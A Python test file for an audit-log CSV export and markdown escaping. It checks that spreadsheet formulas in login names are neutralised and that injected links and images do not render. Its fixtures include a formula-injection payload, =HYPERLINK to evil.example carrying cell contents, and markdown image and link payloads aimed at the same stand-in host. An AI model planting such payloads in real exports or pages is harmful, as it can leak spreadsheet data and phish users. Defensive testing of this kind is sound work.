"""The audit page's CSV download uses the export format, formula guard included."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from typing import Any

import pandas as pd

from nano_export.models import AuditEvent
from nano_export.ui.tables import audit_csv, audit_frame, blank_nulls


def _login_then_export(
    login_actor: str, *, rows: int, details: dict[str, Any] | None = None
) -> list[AuditEvent]:
    """A failed login at 12:00, then ann's succeeded export of ``rows`` rows at 12:05."""
    return [
        AuditEvent(
            id=1,
            at=datetime(2025, 8, 10, 12, 0, tzinfo=UTC),
            event="login.failed",
            actor=login_actor,
            interface="dashboard",
        ),
        AuditEvent(
            id=2,
            at=datetime(2025, 8, 10, 12, 5, tzinfo=UTC),
            event="export.succeeded",
            actor="ann",
            export_id="abc",
            rows=rows,
            details=details or {},
        ),
    ]


def test_the_audit_csv_guards_formulas_typed_as_login_names() -> None:
    events = _login_then_export(
        '=HYPERLINK("http://evil.example/?"&A2,"click")', rows=12, details={"bytes": 10}
    )
    data = audit_csv(audit_frame(events))
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))
    assert rows[1]["actor"].startswith("'=HYPERLINK(")
    assert rows[0]["at"] == "2025-08-10T12:05:00.000000Z"
    assert rows[0]["rows"] == "12"
    assert audit_csv(audit_frame([])).decode().startswith("at,event,actor")


def test_empty_cells_show_as_blanks_not_none() -> None:
    events = _login_then_export("ann", rows=1234)
    shown = blank_nulls(audit_frame(events))
    assert shown.drop(columns=["at"]).notna().all().all()
    login = shown.iloc[1]  # newest first
    assert (login["export_id"], login["reason"], login["rows"]) == ("", "", "")
    assert shown.iloc[0]["rows"] == "1,234"
    assert str(shown["at"].dtype).startswith("datetime64")
    # the CSV download still gets the raw frame: empty cells, numbers as numbers
    assert audit_csv(audit_frame(events)).decode().splitlines()[1].split(",")[7] == "1234"


def test_blank_nulls_keeps_complete_numeric_columns_numeric() -> None:
    frame = pd.DataFrame({"n": [1, 2], "s": ["a", None], "f": [1.5, None]})
    shown = blank_nulls(frame)
    assert list(shown["n"]) == [1, 2] and list(shown["s"]) == ["a", ""]
    assert list(shown["f"]) == ["1.5", ""]


def test_plain_and_literal_keep_markdown_from_rendering_links_or_images() -> None:
    from nano_export.ui.widgets import literal, plain

    text = "![x](http://evil.example/a.png) [Session expired](https://evil.example) :red[x] $y$"
    escaped = plain(text)
    for token in ("![", "](", ":red[", "$y$", "http://", "https://"):
        assert token not in escaped
    assert escaped.replace("\\", "").replace("\u200b", "") == text
    assert literal("a ` b") == "`` a ` b ``"
    assert literal("line\nbreak") == "` line break `"
